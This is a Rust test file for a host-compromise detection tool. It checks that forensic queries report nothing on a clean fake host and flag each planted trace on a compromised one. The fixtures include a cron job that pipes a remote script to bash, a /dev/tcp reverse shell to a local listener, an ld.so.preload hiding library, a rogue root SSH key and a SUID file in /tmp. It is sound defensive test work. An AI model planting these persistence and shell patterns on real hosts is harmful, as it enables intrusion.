//! The queries of `queries/compromise` on a clean host and on a compromised one: same system, own processes, own files.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::support::{needs_root, root};

/// Directories of the host that replace those of this machine.
const REPLACED: [&str; 4] = ["etc", "home", "root", "tmp"];

const SCRIPT: &str = r#"
set -e
# The program and the queries may be in a directory that is replaced.
exec 9< "$INDAGO"
queries=$(mktemp -d -p /var/lib)
cp "$QUERIES"/*.sql "$queries"
tree=$TREE
# Services of this machine in /usr/lib include files of it.
[ ! -d /etc/pam.d ] || cp -r /etc/pam.d "$tree/etc/pam.d"
for folder in etc home root tmp; do mount --bind "$tree/$folder" "/$folder"; done
if [ -n "$PORT" ]; then
    cp /bin/sleep /tmp/.update; /tmp/.update 600 & deleted=$!
    until [ "$(readlink /proc/$deleted/exe)" = /tmp/.update ]; do :; done
    rm /tmp/.update
    bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; exec sh <&3 >&3" 9<&- & shell=$!
    until [ "$(cat /proc/$shell/comm)" = sh ]; do :; done
fi
status=0
for query in "$queries"/*.sql; do
    name=$(basename "$query" .sql)
    /proc/$$/fd/9 query --strict --format ndjson -f "$query" | sed "s/^/$name /" || status=1
    [ "${PIPESTATUS[0]}" = 0 ] || { echo "$name failed" >&2; status=1; }
done
rm -r "$queries"
[ -z "$PORT" ] || kill -9 $deleted $shell
exit $status
"#;

/// What the queries return on a host: rows by the name of the query.
fn found(host: &Path, port: Option<u16>) -> BTreeMap<String, Vec<Value>> {
    let mut command = Command::new("unshare");
    command.args(["--mount", "--pid", "--fork", "--mount-proc", "--propagation", "private", "bash", "-c", SCRIPT]);
    command.env("INDAGO", crate::cli::indago().get_program()).env_remove("INDAGO_CONFIG").env("TREE", host);
    command.env("QUERIES", root().join("queries/compromise"));
    command.env("PORT", port.map(|port| port.to_string()).unwrap_or_default());
    let output = command.output().expect("unshare runs");
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{errors}");
    let mut rows: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for line in String::from_utf8(output.stdout).expect("UTF-8").lines() {
        let (query, row) = line.split_once(' ').expect("the name of the query, and a row");
        rows.entry(query.to_owned()).or_default().push(serde_json::from_str(row).expect("a row"));
    }
    rows
}

fn write(host: &Path, path: &str, text: &str) {
    let path = host.join(path);
    fs::create_dir_all(path.parent().expect("a directory")).expect("made");
    fs::write(path, text).expect("written");
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGAZqlx6fYfq0nL6HWId7vQyjWo8CGEoxA8yRoFJ4Yp/";

/// A host on which all is well.
fn clean() -> tempfile::TempDir {
    let host = tempfile::tempdir_in("/var/lib").expect("a directory");
    for folder in REPLACED {
        fs::create_dir(host.path().join(folder)).expect("made");
    }
    let unit = |command: &str| format!("[Service]\nExecStart={command}\n[Install]\nWantedBy=multi-user.target\n");
    for (path, text) in [
        (
            "etc/passwd",
            "root:x:0:0::/root:/bin/bash\nwww:x:33:33::/tmp:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/sh\n",
        ),
        ("etc/group", "root:x:0:\nwww:x:33:\nann:x:1000:\n"),
        ("etc/hosts", "127.0.0.1 localhost\n"),
        ("etc/ld.so.conf", "/usr/local/lib\n"),
        ("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
        ("etc/systemd/system/web.service", &unit("/usr/sbin/nginx -g 'daemon off;'")),
        ("home/ann/.ssh/authorized_keys", &format!("{KEY} ann@laptop\n")),
        ("home/ann/.profile", "umask 022\n"),
        ("root/.bashrc", "PS1=x\n"),
        ("tmp/notes", "nothing\n"),
    ] {
        write(host.path(), path, text);
    }
    host
}

#[test]
fn nothing_is_found_on_a_clean_host() {
    needs_root();
    let host = clean();
    assert_eq!(found(host.path(), None), BTreeMap::new());
}

#[test]
fn each_trace_is_found_on_a_compromised_host() {
    needs_root();
    let host = clean();
    for (path, text) in [
        ("etc/ld.so.preload", "/usr/lib/libhide.so\n"),
        ("root/.ssh/authorized_keys", &format!("{KEY} eve\n") as &str),
        ("tmp/.sh", "x"),
        ("etc/cron.d/update", "* * * * * root curl -s http://203.0.113.9/x | bash\n"),
        (
            "etc/systemd/system/net.service",
            "[Service]\nExecStart=/dev/shm/.net\n[Install]\nWantedBy=multi-user.target\n",
        ),
    ] {
        write(host.path(), path, text);
    }
    fs::set_permissions(host.path().join("tmp/.sh"), fs::Permissions::from_mode(0o4755)).expect("set");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let rows = found(host.path(), Some(port));
    let names: Vec<&str> = rows.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "deleted_programs",
            "keys_of_system_accounts",
            "persistence",
            "preloaded_libraries",
            "reverse_shells",
            "suid_in_writable_places",
        ]
    );
    let cells = |query: &str, column: &str| {
        let mut cells: Vec<String> =
            rows[query].iter().map(|row| row[column].as_str().map_or(row[column].to_string(), str::to_owned)).collect();
        cells.sort();
        cells
    };
    assert_eq!(cells("deleted_programs", "path"), ["/tmp/.update"]);
    assert_eq!(cells("keys_of_system_accounts", "comment"), ["eve"]);
    assert_eq!(cells("persistence", "file"), ["/etc/cron.d/update", "/etc/systemd/system/net.service"]);
    assert_eq!(cells("preloaded_libraries", "value"), ["/usr/lib/libhide.so"]);
    assert_eq!(cells("reverse_shells", "remote_port"), [port.to_string()]);
    assert_eq!(cells("suid_in_writable_places", "path"), ["/tmp/.sh"]);
}
